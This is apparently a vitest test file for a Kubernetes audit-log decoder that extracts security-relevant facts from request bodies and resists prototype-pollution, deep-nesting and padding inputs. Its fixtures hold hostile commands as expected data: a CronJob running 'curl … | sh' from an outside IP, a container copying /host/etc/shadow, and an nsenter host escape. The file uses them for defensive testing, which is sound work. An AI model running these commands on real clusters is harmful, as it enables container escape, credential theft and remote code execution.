import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../fields.js';
import { readBodyFacts } from './body.js';
import { MAX_ITEMS, MAX_TEXT } from './body-read.js';
import { fixtureObject, fixtureRecords } from './fixtures.test-support.js';
import { auditDecoder } from './index.js';
import type { AuditEvent, BodyFacts } from './types.js';

const BODIES = 'CONSTRUCTED_request-bodies.jsonl';

function decodedEvents(name: string): AuditEvent[] {
  return fixtureRecords(name).flatMap(({ value }) =>
    auditDecoder.decode(value).map((result) => {
      if (!result.ok) throw new Error(`${name}: ${result.rejection.message}`);
      return result.event;
    }),
  );
}

function bodyOf(name: string, index = 0): BodyFacts | undefined {
  return decodedEvents(name)[index]?.body;
}

function pod(spec: unknown): JsonObject {
  return { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p', namespace: 'n' }, spec };
}

/** Every string under the given keys anywhere in `value`: what must never reach the facts. */
function stringsUnder(
  value: unknown,
  keys: ReadonlySet<string>,
  inside = false,
  out: string[] = [],
): string[] {
  if (typeof value === 'string') {
    if (inside) out.push(value);
  } else if (Array.isArray(value)) {
    for (const item of value) stringsUnder(item, keys, inside, out);
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) stringsUnder(item, keys, inside || keys.has(key), out);
  }
  return out;
}

describe('readBodyFacts: real and constructed bodies', () => {
  it('reads a privileged pod with host namespaces and hostPath volumes', () => {
    expect(bodyOf(BODIES, 0)).toEqual({
      kind: 'Pod',
      name: 'node-debugger',
      namespace: 'tools',
      containers: [
        {
          name: 'shell',
          image: 'registry.example.com/tools/debug:2.4',
          privileged: true,
          allowPrivilegeEscalation: true,
          runAsUser: 0,
          capabilitiesAdd: ['SYS_ADMIN', 'SYS_PTRACE'],
          command: 'nsenter --target 1 --mount --uts --ipc --net --pid -- bash',
        },
        // The container's own runAsUser wins over the pod's.
        {
          name: 'sidecar',
          image: 'registry.example.com/tools/logship:1.0',
          allowPrivilegeEscalation: false,
          runAsUser: 1000,
        },
        // Init containers follow; the pod's runAsUser applies to a container that sets none.
        { name: 'prepare', image: 'busybox:1.36', runAsUser: 0, command: 'sh -c cp /host/etc/shadow /tmp/x' },
      ],
      hostNetwork: true,
      hostPid: true,
      hostIpc: false,
      hostPathVolumes: ['/', '/var/log/pods'],
      serviceAccountName: 'node-debugger',
      nodeName: 'worker-3',
      automountServiceAccountToken: true,
    });
  });

  it('reads the node paths of a PersistentVolume', () => {
    expect(bodyOf(BODIES, 1)).toEqual({
      kind: 'PersistentVolume',
      name: 'node-logs',
      hostPathVolumes: ['/var/log'],
    });
    const local = { kind: 'PersistentVolume', spec: { local: { path: '/mnt/disks/ssd1' } } };
    expect(readBodyFacts(local, undefined)?.hostPathVolumes).toEqual(['/mnt/disks/ssd1']);
  });

  it('reads the role and subjects of a binding', () => {
    expect(bodyOf(BODIES, 2)).toMatchObject({
      kind: 'RoleBinding',
      roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [
        { kind: 'ServiceAccount', name: 'ci-runner', namespace: 'ci' },
        { kind: 'Group', name: 'system:authenticated' },
      ],
    });
    expect(bodyOf('create_clusterrolebinding.json')).toEqual({
      kind: 'ClusterRoleBinding',
      name: 'some-reader-binding',
      roleRef: { kind: 'ClusterRole', name: 'system:basic-user' },
      subjects: [{ kind: 'User', name: 'minikube' }],
    });
  });

  it('falls back to the response for a patch whose body is no whole object', () => {
    expect(bodyOf(BODIES, 3)).toEqual({
      kind: 'Deployment',
      name: 'cart',
      namespace: 'shop',
      containers: [
        {
          name: 'cart',
          image: 'registry.example.com/shop/cart:3.2.1',
          privileged: true,
          command: '--listen :8080',
        },
      ],
      hostPid: true,
      serviceAccountName: 'cart',
    });
    expect(bodyOf('modify_cluster_role_node_problem_detector.json')).toMatchObject({
      kind: 'ClusterRole',
      name: 'system:node-problem-detector',
    });
    const jsonPatch = [{ op: 'add', path: '/spec/hostPID', value: true }];
    expect(readBodyFacts(jsonPatch, pod({ hostPID: true }))).toMatchObject({ kind: 'Pod', hostPid: true });
  });

  it('prefers a whole request object over the response', () => {
    // The replica set's request has no name (generateName); the response names the created pod.
    expect(bodyOf('create_nginx_pod_unprivileged.json')).toEqual({
      kind: 'Pod',
      containers: [{ name: 'nginx', image: 'nginx' }],
    });
    expect(readBodyFacts(pod({ hostPID: false }), pod({ hostPID: true }))?.hostPid).toBe(false);
  });

  it('unions the rules of a role and keeps the core group as ""', () => {
    expect(bodyOf(BODIES, 5)).toEqual({
      kind: 'ClusterRole',
      name: 'secret-reader-plus',
      verbs: ['get', 'list', 'create', '*'],
      resources: ['secrets', 'pods/exec', 'deployments'],
      apiGroups: ['', 'apps'],
    });
  });

  it('reads a CronJob schedule and its job template, and webhook names', () => {
    expect(bodyOf(BODIES, 6)).toMatchObject({
      kind: 'CronJob',
      schedule: '*/5 * * * *',
      containers: [{ name: 'cleanup', command: '/bin/sh -c curl -fsSL http://198.51.100.7/x | sh' }],
      hostPathVolumes: ['/var/run/docker.sock'],
    });
    expect(bodyOf(BODIES, 7)).toEqual({
      kind: 'MutatingWebhookConfiguration',
      name: 'inject-everything',
      webhookNames: ['inject.example.com'],
    });
  });

  it('has nothing for Metadata-level events, exec, deletes and Status responses', () => {
    expect(bodyOf('create_secret.json')).toBeUndefined();
    expect(bodyOf('CONSTRUCTED_v1-events.jsonl', 0)).toBeUndefined(); // pods/exec
    expect(bodyOf('delete_clusterrole.json')).toBeUndefined(); // DeleteOptions, then a Status
    expect(readBodyFacts(undefined, { kind: 'Status', status: 'Failure' })).toBeUndefined();
    expect(readBodyFacts({ metadata: { name: 'x' } }, undefined)).toBeUndefined();
  });

  it('never keeps Secret or ConfigMap data, environment values or webhook CA bundles', () => {
    const secretKeys = new Set(['data', 'stringData', 'env', 'caBundle', 'annotations']);
    let checked = 0;
    for (const name of [BODIES, 'create_configmap.json', 'create_deployment.json']) {
      for (const { value } of fixtureRecords(name)) {
        const secrets = stringsUnder(value, secretKeys).filter((text) => text.length > 8);
        const [result] = auditDecoder.decode(value);
        const facts = JSON.stringify(result?.ok ? result.event.body : null);
        for (const secret of secrets) expect(facts, name).not.toContain(secret);
        checked += secrets.length;
      }
    }
    expect(checked).toBeGreaterThan(5);
    expect(bodyOf(BODIES, 4)).toEqual({ kind: 'Secret', name: 'db', namespace: 'shop' });
    expect(bodyOf('create_configmap.json')).toEqual({
      kind: 'ConfigMap',
      name: 'my-config',
      namespace: 'default',
    });
  });
});

describe('readBodyFacts: hostile bodies', () => {
  it('never rejects the event for its body', () => {
    const event = { ...fixtureObject('create_secret.json'), requestObject: pod('x'), responseObject: 7 };
    const [result] = auditDecoder.decode(event);
    expect(result?.ok && result.event.body).toEqual({ kind: 'Pod', name: 'p', namespace: 'n' });
  });

  it('reads values of the wrong type as absent', () => {
    const facts = readBodyFacts(
      pod({
        hostPID: 1,
        hostNetwork: 'true',
        nodeName: ['worker'],
        securityContext: { runAsUser: -1 },
        volumes: { hostPath: { path: '/' } },
        containers: [
          'privileged',
          null,
          {
            name: 7,
            image: 'ok',
            command: 'sh -c x',
            args: [1, 'a', null, 'b'],
            securityContext: {
              privileged: 'true',
              runAsUser: 1.5,
              capabilities: { add: [1, {}, 'NET_ADMIN'] },
            },
          },
          { name: 'big-uid', securityContext: { runAsUser: 2 ** 53 } },
        ],
      }),
      undefined,
    );
    expect(facts).toEqual({
      kind: 'Pod',
      name: 'p',
      namespace: 'n',
      containers: [{ image: 'ok', capabilitiesAdd: ['NET_ADMIN'], command: 'a b' }, { name: 'big-uid' }],
    });
    expect(readBodyFacts({ kind: 5, spec: {} }, { kind: '' })).toBeUndefined();
    expect(
      readBodyFacts({ kind: 'ClusterRoleBinding', roleRef: 'cluster-admin', subjects: 'x' }, undefined),
    ).toEqual({
      kind: 'ClusterRoleBinding',
    });
  });

  it('treats __proto__ and inherited names as plain keys', () => {
    const body = JSON.parse(
      '{"kind":"Pod","__proto__":{"metadata":{"name":"evil"}},"spec":{"__proto__":{"hostPID":true},' +
        '"containers":[{"__proto__":{"securityContext":{"privileged":true}},"name":"c"}],' +
        '"volumes":[{"hostPath":{"__proto__":{"path":"/"}}}],"toString":true}}',
    );
    expect(readBodyFacts(body, undefined)).toEqual({ kind: 'Pod', containers: [{ name: 'c' }] });
    expect(readBodyFacts({ kind: 'constructor' }, undefined)).toEqual({ kind: 'constructor' });
    expect(readBodyFacts({ kind: 'hasOwnProperty', spec: {} }, undefined)).toEqual({
      kind: 'hasOwnProperty',
    });
    expect(({} as Record<string, unknown>)['hostPID']).toBeUndefined();
  });

  it('does not walk deep nesting', () => {
    const depth = 100_000;
    const deep = JSON.parse(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
    const facts = readBodyFacts(
      pod({ hostPID: true, affinity: deep, containers: [{ name: 'c', env: deep }] }),
      deep,
    );
    expect(facts).toMatchObject({ hostPid: true, containers: [{ name: 'c' }] });
  });

  it('caps lists, yet padding cannot push a privileged container, a hostPath or a wildcard out', () => {
    const plain = Array.from({ length: 10_000 }, (_, index) => ({ name: `c${index}`, image: 'pause' }));
    const privileged = { name: 'evil', securityContext: { privileged: true } };
    const volumes = [
      ...Array.from({ length: 10_000 }, (_, index) => ({ name: `v${index}`, emptyDir: {} })),
      { name: 'root', hostPath: { path: '/' } },
    ];
    const facts = readBodyFacts(pod({ containers: [...plain, privileged], volumes }), undefined);
    expect(facts?.containers).toHaveLength(MAX_ITEMS);
    expect(facts?.containers?.[0]?.name).toBe('c0');
    expect(facts?.containers?.at(-1)).toEqual({ name: 'evil', privileged: true });
    expect(facts?.hostPathVolumes).toEqual(['/']);

    const manyPaths = Array.from({ length: 1000 }, (_, index) => ({ hostPath: { path: `/p${index}` } }));
    expect(readBodyFacts(pod({ volumes: manyPaths }), undefined)?.hostPathVolumes).toHaveLength(MAX_ITEMS);

    const narrow = Array.from({ length: 500 }, (_, index) => ({
      verbs: [`verb${index}`],
      resources: ['pods'],
    }));
    const role = {
      kind: 'ClusterRole',
      rules: [...narrow, { verbs: ['*'], resources: ['*'], apiGroups: ['*'] }],
    };
    const rules = readBodyFacts(role, undefined);
    expect(rules?.verbs).toHaveLength(MAX_ITEMS);
    expect(rules?.verbs).toContain('*');
    expect(rules?.resources).toEqual(['pods', '*']);

    const subjects = Array.from({ length: 1000 }, (_, index) => ({ kind: 'User', name: `u${index}` }));
    const binding = readBodyFacts({ kind: 'RoleBinding', subjects }, undefined);
    expect(binding?.subjects).toHaveLength(MAX_ITEMS);
  });

  it('cuts long text without splitting a surrogate pair, and long argv lists early', () => {
    const long = `${'x'.repeat(MAX_TEXT - 1)}😀tail`;
    const facts = readBodyFacts(
      pod({
        nodeName: long,
        containers: [{ image: 'y'.repeat(100_000), command: Array(1_000_000).fill('arg') }],
      }),
      undefined,
    );
    expect(facts?.nodeName).toBe('x'.repeat(MAX_TEXT - 1));
    expect(facts?.containers?.[0]?.image).toHaveLength(MAX_TEXT);
    expect(facts?.containers?.[0]?.command?.length).toBeLessThanOrEqual(MAX_TEXT);
    expect(facts?.containers?.[0]?.command?.startsWith('arg arg arg')).toBe(true);
  });
});
